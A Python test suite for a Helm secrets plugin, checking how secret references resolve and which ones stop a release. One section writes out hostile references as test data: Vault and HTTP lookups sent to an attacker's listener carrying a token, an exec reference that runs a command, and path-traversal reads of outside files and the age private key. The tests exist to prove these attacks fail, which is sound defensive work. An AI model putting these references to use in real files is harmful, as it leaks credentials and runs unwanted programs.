"""References under Helm: what is resolved, for whom, and what a hostile file does not get."""

from __future__ import annotations

import base64
import http.server
import json
import os
import shlex
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
import yaml

from tests.charts import FILES, MORE, SECRETS, Made, Shop
from tests.trace import CANARY, assert_no_disk, assert_nowhere, traced

VALS = ("secrets", "-b", "vals", "template", "r", "app")
AWKWARD = "a,b='\"\\ {x}\n  $HOME ünïcode \U0001f600\n"


def write(shop: Shop, name: str, text: str) -> None:
    (shop.folder / name).parent.mkdir(parents=True, exist_ok=True)
    (shop.folder / name).write_text(text)


# -- what they give ----------------------------------------------------------------------------------------------------


def test_what_is_here(shop: Shop) -> None:
    write(shop, "secret.txt", AWKWARD)
    write(shop, "tree.json", '{"a": {"b": "deep", "port": 82, "on": true}}')
    write(
        shop,
        "ref.yaml",
        f"""\
# ref+echo://comment stays
text: ref+file://secret.txt
whole: ref+sops://{SECRETS}
one: ref+sops://{SECRETS}#/db/password
mapping: ref+sops://{SECRETS}#/db
within: postgres://app:ref+sops://{SECRETS}#/db/password+@db:5432
same: secretref+echo://hello
flow: {{a: ref+echo://flow, b: ['ref+echo://quoted', "ref+echo://double"]}}
block: |
  one ref+echo://block+
  two
port: ref+file://tree.json#/a/port
truth: ref+file://tree.json#/a/on
coded: ref+file://secret.txt?encode=base64
environment: ref+envsubst://$SHOP_NAME
nested: ref+file://ref+echo://tree+.json#/a/b
list:
- plain
- ref+echo://item
""",
    )
    done = shop(*VALS, "-f", "ref.yaml", env={"SHOP_NAME": "shop"})
    assert done.returncode == 0, done.stderr
    got = json.loads(yaml.safe_load(done.stdout)["data"]["values"])
    assert got == {
        "order": "chart",
        "from": "chart",
        "text": AWKWARD,
        "whole": FILES[SECRETS],
        "one": CANARY,
        "mapping": {"password": CANARY},
        "within": f"postgres://app:{CANARY}@db:5432",
        "same": "hello",
        "flow": {"a": "flow", "b": ["quoted", "double"]},
        "block": "one block\ntwo\n",
        "port": 82,
        "truth": True,
        "coded": base64.b64encode(AWKWARD.encode()).decode(),
        "environment": "shop",
        "nested": "deep",
        "list": ["plain", "item"],
    }
    by_getter = shop("template", "r", "app", "-f", "secrets://vals!ref.yaml", env={"SHOP_NAME": "shop"})
    assert by_getter.stdout == done.stdout


def test_references_in_an_encrypted_file(shop: Shop) -> None:
    """Decrypted first, then resolved: the two backends do not exclude each other."""
    write(shop, "env/prod/secrets-ref.yaml", "name: ref+echo://found\nplain: kept\n")
    assert shop("secrets", "encrypt", "-i", "env/prod/secrets-ref.yaml").returncode == 0
    got = shop.values(*VALS, "-f", "env/prod/secrets-ref.yaml")
    assert (got["name"], got["plain"]) == ("found", "kept")


def test_values_of_set(shop: Shop) -> None:
    """With the types that Helm gives them, the order of Helm, and every character."""
    write(shop, "secret.txt", AWKWARD)
    write(shop, "refs.yaml", "order: ref+echo://file\n")
    argv = [
        *("-f", "refs.yaml", "--set", "a.text=ref+file://secret.txt,a.port=ref+echo://87"),
        *("--set-string", "a.string=ref+echo://87", "--set", "list={x,ref+echo://second,\\,}"),
        *("--set", "over=ref+echo://lost", "--set", "over=won", "--set", "under=lost", "--set", "under=ref+echo://won"),
        *(
            "--set",
            "big=ref+echo://12345678",
            "--set",
            "on=ref+echo://true",
            "--set-string",
            "order=vals!ref+echo://set",
        ),
        *("--set-file", "file=secret.txt", "--set", "mixed=x ref+echo://ab+ y"),
        *("--set-json", 'json={"k.e,y": ["ref+echo://in", 1.10, null], "n": 12345678}'),
    ]
    got = shop.values(*VALS, *argv)
    assert got["a"] == {"text": AWKWARD, "port": 87, "string": "87"}
    assert got["list"] == ["x", "second", ","]
    assert (got["over"], got["under"], got["order"], got["file"]) == ("won", "won", "set", AWKWARD)
    assert got["json"] == {"k.e,y": ["in", 1.1, None], "n": 12345678}
    assert (got["big"], got["on"], got["mixed"]) == ("12345678", True, "x ab y")
    without = shop.values("secrets", "template", "r", "app", "--set", "order=vals!ref+echo://own", "--set", "a=b!c")
    assert (without["order"], without["a"]) == ("own", "b!c")


@pytest.mark.parametrize(
    "line",
    [
        "a=fr\\,en,b={fr,en,de}",
        "a={'fr',\"en\"}",
        "a={fr\\,en,de}",
        "a=fr\\,en\\,de",
        "a={\\{fr\\},en}",
        "a=va!ue,b=x\\\ny,c=1 2",
    ],
)
def test_values_without_references_stay_as_they_are(shop: Shop, line: str) -> None:
    assert shop.template("-f", SECRETS, "--set", line) == shop.values(
        "template", "r", "app", "-f", f"secrets://{SECRETS}", "--set", line
    )


def test_no_secret_of_set_is_on_a_disk_or_in_a_command_line(
    shop: Shop, strace: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(shop, "refs.yaml", f"x: ref+sops://{SECRETS}#/db/password\n")
    (tmp_path / "tmp").mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    argv = [shop.helm, *VALS, "-f", "refs.yaml", "--set", f"a=ref+sops://{SECRETS}#/db/password"]
    argv += ["--set-string", f"b={{ref+sops://{SECRETS}#/db/password}}"]
    out, seen = traced(strace, tmp_path, argv)
    assert out.count(CANARY) == 3
    assert_no_disk(seen)
    assert_nowhere(tmp_path / "tmp", shop.folder)


# -- what stops a release ----------------------------------------------------------------------------------------------


def test_ciphertext_and_open_references_stop_the_release(shop: Shop) -> None:
    """With file, line and path; also where nothing of ours is in the file."""
    token = next(line for line in (shop.folder / SECRETS).read_text().splitlines() if "password: ENC[" in line)
    token = token.split("password: ")[1].split("  #")[0]
    write(shop, "copied.yaml", f"a: b\ndb:\n  list: [x, '{token}']\n")
    write(shop, "open.yaml", "a: b\ndb:\n  password: ref+vault://secret/db#/password\n# ref+echo://comment\n")
    write(shop, "text.txt", f"the token {token}\n")
    encrypted = "is still encrypted: Helm would deploy the ciphertext"
    reference = "is a reference that nothing resolves: Helm would deploy it as it stands"
    for argv, message in (
        (["-f", "copied.yaml"], f"copied.yaml:3: db.list[1]: {encrypted}"),
        (["-f", "noop!copied.yaml"], f"copied.yaml:3: db.list[1]: {encrypted}"),
        (["-f", f"noop!{SECRETS}"], f"{SECRETS}:"),
        (["-f", "vals!copied.yaml"], f"copied.yaml:3: db.list[1]: {encrypted}"),
        (["-f", "open.yaml"], f"open.yaml:3: db.password: {reference}"),
        (["--set-file", "a=text.txt"], f"text.txt: {encrypted}"),
        (["--set", f"a.b={token.replace(',', chr(92) + ',')}"], f"--set a.b: {encrypted}"),
        (["--set-string", "a=ref+vault://secret/db#/password"], f"--set a: {reference}"),
        (["--set-json", 'a={"b":["ref+echo://bb"]}'], f"--set a: {reference}"),
        (["--set-literal", "a=ref+echo://bb"], f"--set a: {reference}"),
        (["--set-file", "a=secrets+literal://ref+echo://bb"], f"secrets+literal://: {reference}"),
    ):
        done = shop("secrets", "template", "r", "app", "-f", MORE, *argv)
        assert (done.returncode, done.stdout) == (1, ""), argv
        assert done.stderr.startswith(f"error: {message}"), done.stderr
        if argv[0] != "--set" and "set-" not in argv[0]:
            got = shop("template", "r", "app", "-f", f"secrets://{argv[1]}")
            assert got.returncode == 1
            assert got.stderr.startswith(f"error: {message}"), got.stderr
    assert shop.template("-f", "noop!open.yaml")["db"] == {"password": "ref+vault://secret/db#/password"}


def test_references_in_a_file_that_is_no_yaml(shop: Shop) -> None:
    """By --set-file: the text as it is, with what they stand for in their place, and no quotes."""
    for text, wanted in (
        ("password=ref+echo://ab+\nuser = me\n", "password=ab\nuser = me\n"),
        ("ref+echo://ab", "ab"),
        ("case x in {[ ref+echo://c\n", "case x in {[ c\n"),
        ("a: ref+echo://ab\nb: 1\n", 'a: "ab"\nb: 1\n'),
    ):
        write(shop, "text.conf", text)
        assert shop.template("--set-file", "a=vals!text.conf")["a"] == wanted
        if "{[" not in text:
            assert shop.values("template", "r", "app", "--set-file", "a=secrets://vals!text.conf")["a"] == wanted


def test_what_cannot_be_resolved_stops_the_release(shop: Shop, tmp_path: Path) -> None:
    write(shop, "tree.yaml", "a: {b: c}\n")
    write(shop, "broken.yaml", (shop.folder / SECRETS).read_text().replace("from: ENC", "form: ENC"))
    for reference, message in (
        ("ref+file://no.txt", "no.txt: a reference to a file: cannot be read: No such file or directory"),
        ("ref+file://tree.yaml#/a/x", "ref.yaml:2: x.y: what a reference to file names has no key a/x"),
        ("ref+file://tree.yaml#/a/b/c", "ref.yaml:2: x.y: a reference to file looks for c in a/b, which is no mapping"),
        ("in ref+file://tree.yaml#/a", "ref.yaml:2: x.y: a reference within a text gives a mapping"),
        ("ref+sops://broken.yaml", "broken.yaml:5: form: "),
        ("ref+envsubst://$NOT_SET", "ref.yaml:2: x.y: a reference to envsubst: the variable NOT_SET is not set"),
        ("ref+k8s://v1/Pod/a/b/c", "ref.yaml:2: x.y: a reference to k8s is no v1/Secret/NAMESPACE/NAME/KEY"),
    ):
        write(shop, "ref.yaml", f"x:\n  y: '{reference}'\n")
        done = shop(*VALS, "-f", "ref.yaml")
        assert done.returncode != 0, reference
        assert done.stdout == ""
        assert done.stderr.startswith(f"error: {message}"), done.stderr


# -- whom a hostile file makes us talk to ------------------------------------------------------------------------------


class Silent:
    """A port that somebody might connect to. address: HOST:PORT; connections: how many did."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.05)
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"

    def connections(self) -> int:
        count = 0
        try:
            while True:
                self._socket.accept()[0].close()
                count += 1
        except TimeoutError:
            return count

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def silent() -> Iterator[Silent]:
    listener = Silent()
    yield listener
    listener.close()


def test_the_listener_would_hear_something(silent: Silent) -> None:
    host, _, port = silent.address.partition(":")
    socket.create_connection((host, int(port))).close()
    assert silent.connections() == 1


def test_a_file_of_a_pull_request_contacts_nobody(shop: Shop, silent: Silent, tmp_path: Path) -> None:
    """The attack: references to a server of the attacker's, in a file that is plain and in one that is decrypted.

    The user has credentials for Vault, kubectl and vals; each would send them, or run a program, where the reference
    says.
    """
    evil = tmp_path / "vals"
    evil.write_text(f"#!/bin/sh\ntouch {shlex.quote(str(tmp_path / 'started'))}\n")
    evil.chmod(0o755)
    (tmp_path / "kubectl").symlink_to(evil)
    write(shop, "kubeconfig", "clusters: []\n")
    env = {
        "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}",
        "VAULT_TOKEN": CANARY,
        "KUBECONFIG": str(shop.folder / "kubeconfig"),
    }
    own_vault = {"VAULT_ADDR": "https://127.0.0.1:1"}
    at = f"http://{silent.address}"
    for reference in (
        f"ref+vault://secret/db?address={at}#/password",
        f"ref+vault://secret/db?proto=http&host={silent.address}#/password",
        f"ref+vault://secret/db?auth_method=approle&role_id=x&address={at}#/password",
        f"ref+httpjson://{silent.address}/x?insecure=true#/a",
        f"ref+awssecrets://x?region=eu-west-1&endpoint={at}",
        "ref+exec://touch%20started",
        "ref+k8s://v1/Secret/ns/name/key?kubeConfigPath=kubeconfig",
        "ref+k8s://v1/Secret/ns/name/key?kubeContext=theirs",
        f"ref+sops://{SECRETS}?role_arn=x#/order",
        f"ref+echo://ref+httpjson://{silent.address}/x#/a",
        f"ref+unknown://{silent.address}/x",
    ):
        write(shop, "ref.yaml", f"x: '{reference}'\n")
        for argv in (
            [*VALS, "-f", "ref.yaml"],
            ["secrets", "template", "r", "app", "-f", "ref.yaml"],
            ["template", "r", "app", "-f", "secrets://vals!ref.yaml"],
        ):
            done = shop(*argv, env={**env, **own_vault})
            assert done.returncode != 0, reference
            assert done.stdout == ""
            assert CANARY not in done.stderr
    assert silent.connections() == 0
    assert not (tmp_path / "started").exists()
    assert not (shop.folder / "started").exists()


def test_a_reference_reads_no_file_outside_and_no_identity(shop: Shop, tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text(CANARY)
    (shop.folder / "link.txt").symlink_to(outside)
    for reference in (
        f"ref+file://{outside}",
        "ref+file://../outside.txt",
        "ref+file://link.txt",
        "ref+file://%2e%2e/outside.txt",
        "ref+sops://../outside.txt",
        "ref+envsubst://$KSECRETS_AGE_KEY",
        "ref+envsubst://${KSECRETS_AGE_KEY}",
    ):
        write(shop, "ref.yaml", f"x: '{reference}'\n")
        done = shop(*VALS, "-f", "ref.yaml")
        assert (done.returncode, done.stdout) == (1, ""), reference
        assert "AGE-SECRET-KEY" not in done.stderr
        assert CANARY not in done.stderr


def test_services_can_be_named_and_narrowed(shop: Shop, tmp_path: Path) -> None:
    """KSECRETS_REFERENCES: what is not in it is not asked; what is in it and is not ours is asked through vals."""
    vals = tmp_path / "bin/vals"
    vals.parent.mkdir()
    vals.write_text('#!/bin/sh\nenv | grep -c AGE_KEY >&2\necho "$1 $2" >&2\nprintf "of vals"\n')
    vals.chmod(0o755)
    path = {"PATH": f"{vals.parent}{os.pathsep}{os.environ['PATH']}"}
    write(shop, "ref.yaml", "x: ref+doppler://shop/key#/a\n")
    write(shop, "own.yaml", "x: ref+echo://ab\n")
    refused = shop(*VALS, "-f", "ref.yaml", env=path)
    assert "hint: where that is wanted: KSECRETS_REFERENCES=doppler\n" in refused.stderr
    for env in ({**path, "KSECRETS_REFERENCES": "echo, doppler"}, {"HELM_SECRETS_VALS_PATH": str(vals)}):
        done = shop(*VALS, "-f", "ref.yaml", "-f", "own.yaml", env=env)
        assert '\\"x\\":\\"ab\\"' in done.stdout, done.stderr
        done = shop(*VALS, "-f", "ref.yaml", env=env)
        assert '\\"x\\":\\"of vals\\"' in done.stdout
        assert done.stderr == "0\nget ref+doppler://shop/key#/a\n"
    for allowed in ("", "doppler"):
        done = shop(*VALS, "-f", "own.yaml", env={"KSECRETS_REFERENCES": allowed})
        assert "references to echo are not allowed here" in done.stderr
    gone = shop(*VALS, "-f", "ref.yaml", env={"KSECRETS_REFERENCES": "doppler", "PATH": "/usr/bin:/bin"})
    assert "a reference to doppler needs vals, which is not on the PATH" in gone.stderr
    planted = shop.folder / "vals"
    planted.symlink_to(vals)
    relative = shop(*VALS, "-f", "ref.yaml", env={"KSECRETS_REFERENCES": "doppler", "PATH": ".:/usr/bin:/bin"})
    assert "a reference to doppler needs vals, which is not on the PATH" in relative.stderr


# -- Vault, Kubernetes -------------------------------------------------------------------------------------------------


class _Vault(http.server.BaseHTTPRequestHandler):
    """A KV store with versions at kv/, one without at old/. seen: (path, token, namespace)."""

    seen: list[tuple[str, str | None, str | None]]
    answers: ClassVar[dict[str, object]] = {
        "/v1/sys/internal/ui/mounts/kv/shop/db": {"path": "kv/", "options": {"version": "2"}},
        "/v1/kv/data/shop/db": {"data": {"password": CANARY, "port": 5432, "coded": "YWI="}, "metadata": {}},
        "/v1/kv/data/shop/db?version=3": {"data": {"password": "third"}, "metadata": {}},
        "/v1/sys/internal/ui/mounts/old/db": {"path": "old/", "options": None},
        "/v1/old/db": {"password": "of version 1"},
    }

    def do_GET(self) -> None:
        self.seen.append((self.path, self.headers.get("X-Vault-Token"), self.headers.get("X-Vault-Namespace")))
        if self.path.endswith("/moved"):
            self.send_response(307)
            self.send_header("Location", "/v1/kv/data/shop/db")
            self.end_headers()
            return
        allowed = self.headers.get("X-Vault-Token") == "s.token"
        found = self.answers.get(self.path)
        body = json.dumps({"data": found}).encode() if allowed and found else b'{"errors":["no"]}'
        self.send_response(403 if not allowed else 200 if found else 404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def vault(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    _Vault.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Vault)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    address = f"http://127.0.0.1:{server.server_address[1]}"
    monkeypatch.setenv("VAULT_ADDR", address)
    monkeypatch.setenv("VAULT_TOKEN", "s.token")
    yield address
    server.shutdown()
    server.server_close()
    thread.join()


def test_vault(shop: Shop, vault: str) -> None:
    write(
        shop,
        "ref.yaml",
        f"""\
password: ref+vault://kv/shop/db#/password
port: ref+vault://kv/shop/db#/port
last: ref+vault://kv/shop/db/password
same: ref+vault://kv/shop/db?address={vault}#/password
third: ref+vault://kv/shop/db?version=3#/password
old: ref+vault://old/db#/password
coded: ref+vault://kv/shop/db?decode=base64#/coded
""",
    )
    got = shop.values(*VALS, "-f", "ref.yaml")
    assert got["password"] == got["last"] == got["same"] == CANARY
    assert (got["port"], got["third"], got["old"], got["coded"]) == (5432, "third", "of version 1", "ab")
    for reference, message in (
        ("ref+vault://kv/shop/db#/none", "what a reference to vault names has no key none"),
        ("ref+vault://kv/shop/none#/x", "vault has no secret kv/shop/none"),
        ("ref+vault://kv/shop/../db#/x", "a reference to vault is no MOUNT/PATH#/KEY"),
        ("ref+vault://kv/shop/moved#/x", "vault answers 307 for sys/internal/ui/mounts/kv/shop/moved"),
    ):
        write(shop, "ref.yaml", f"x: {reference}\n")
        done = shop(*VALS, "-f", "ref.yaml")
        assert done.returncode == 1
        assert done.stderr.startswith(f"error: ref.yaml:1: x: {message}"), done.stderr
    write(shop, "ref.yaml", "x: ref+vault://kv/shop/db?namespace=team#/password\n")
    (Path(os.environ["HOME"]) / ".vault-token").write_text("s.token\n")
    assert shop(*VALS, "-f", "ref.yaml", env={"VAULT_TOKEN": ""}).returncode == 0
    assert _Vault.seen[-1] == ("/v1/kv/data/shop/db", "s.token", "team")
    wrong = shop(*VALS, "-f", "ref.yaml", env={"VAULT_TOKEN": "s.other"})
    assert "vault answers 403" in wrong.stderr
    assert "s.other" not in wrong.stderr
    for address, message in (
        ("", "which is not set"),
        ("http://example.org", "example.org is an http address"),
    ):
        assert message in shop(*VALS, "-f", "ref.yaml", env={"VAULT_ADDR": address}).stderr


def test_kubernetes(shop: Shop, tmp_path: Path) -> None:
    kubectl = tmp_path / "kubectl"
    secret = {"data": {"password": base64.b64encode(CANARY.encode()).decode(), "n": "MQ=="}}
    kubectl.write_text(
        f'#!/bin/sh\necho "$@" >>{shlex.quote(str(tmp_path / "log"))}\n'
        f"case \"$2 $3\" in 'secret db') echo '{json.dumps(secret)}';;\n"
        '\'configmap db\') echo \'{"data":{"host":"db.local"}}\';; *) exit 1;; esac\n'
    )
    kubectl.chmod(0o755)
    write(
        shop,
        "ref.yaml",
        """\
one: ref+k8s://v1/Secret/ops/db/password
same: ref+k8s://v1/Secret/ops/db#/password
all: ref+k8s://v1/Secret/ops/db
config: ref+k8s://v1/ConfigMap/ops/db/host
mine: ref+k8s://v1/Secret/ops/db/n?kubeContext=prod
""",
    )
    env = {"HELM_SECRETS_KUBECTL_PATH": str(kubectl)}
    done = shop("--kube-context", "prod", *VALS, "-f", "ref.yaml", env=env)
    assert done.returncode == 0, done.stderr
    got = json.loads(yaml.safe_load(done.stdout)["data"]["values"])
    assert (got["one"], got["same"], got["config"], got["mine"]) == (CANARY, CANARY, "db.local", "1")
    assert json.loads(got["all"]) == {"n": "1", "password": CANARY}
    assert (tmp_path / "log").read_text().split("\n")[0] == (
        "get secret db --output=json --namespace=ops --context=prod"
    )
    done = shop(*VALS, "-f", "ref.yaml", env=env)
    assert "error: ref.yaml:5: mine: a reference to k8s names the context prod, which is not Helm's" in done.stderr


# -- in what the chart renders -----------------------------------------------------------------------------------------

_TEMPLATES = """\
apiVersion: v1
kind: Secret
metadata: {name: one}
stringData:
  password: ref+sops://env/prod/secrets.yaml#/db/password
data:
  coded: {{ "ref+echo://coded" | b64enc }}
  plain: {{ "plain" | b64enc }}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: two}
data:
  coded: {{ "ref+echo://coded" | b64enc }}
  value: {{ .Values.late | quote }}
"""


@pytest.fixture
def made_home(made: Made, monkeypatch: pytest.MonkeyPatch) -> None:
    """The key where it needs no variable, which what Helm starts would not inherit."""
    keys = Path(os.environ["XDG_CONFIG_HOME"]) / "sops/age/keys.txt"
    keys.parent.mkdir(parents=True)
    keys.write_text(made.keys["me"])
    keys.chmod(0o600)


def _manifests(done: subprocess.CompletedProcess[str]) -> dict[str, dict[str, object]]:
    assert done.returncode == 0, done.stderr
    return {str(each["metadata"]["name"]): each for each in yaml.safe_load_all(done.stdout) if each}


def test_references_in_templates(shop: Shop, made_home: None) -> None:
    write(shop, "app/templates/two.yaml", _TEMPLATES)
    coded = base64.b64encode(b"ref+echo://coded").decode()
    late = ["--set", "late=ref+echo://late"]
    for options, env in (
        (["--evaluate-templates"], {}),
        (["--evaluate-templates=true"], {}),
        (["--evaluate-templates", "true"], {}),
        ([], {"HELM_SECRETS_EVALUATE_TEMPLATES": "true"}),
        (["--evaluate-templates", "--evaluate-templates-decode-secrets", "false"], {}),
    ):
        found = _manifests(shop("secrets", *options, "template", "r", "app", *late, env=env))
        assert found["one"]["stringData"] == {"password": CANARY}
        assert found["two"]["data"] == {"coded": coded, "value": "late"}
        assert found["one"]["data"]["coded"] == coded  # type: ignore[index]
    for word in ("--evaluate-templates-decode-secrets", "--evaluate-templates-decode-secrets=true"):
        found = _manifests(shop("secrets", "--evaluate-templates", word, "template", "r", "app", *late))
        assert found["one"]["data"] == {
            "coded": base64.b64encode(b"coded").decode(),
            "plain": base64.b64encode(b"plain").decode(),
        }
        assert found["two"]["data"] == {"coded": coded, "value": "late"}
    for options in ([], ["--evaluate-templates", "false"]):
        found = _manifests(shop("secrets", *options, "template", "r", "app"))
        assert found["one"]["stringData"] == {"password": "ref+sops://env/prod/secrets.yaml#/db/password"}


def test_a_template_that_cannot_be_resolved_stops_the_release(shop: Shop) -> None:
    for reference, message in (
        ("ref+file://no.txt", "no.txt: a reference to a file: cannot be read"),
        ("ref+httpjson://localhost/x#/a", "a reference to httpjson would be followed by vals"),
    ):
        write(shop, "app/templates/two.yaml", f"kind: A\nmetadata: {{name: x}}\na: {reference}\n")
        done = shop("secrets", "--evaluate-templates", "template", "r", "app")
        assert (done.returncode, done.stdout) == (1, "")
        assert message in done.stderr
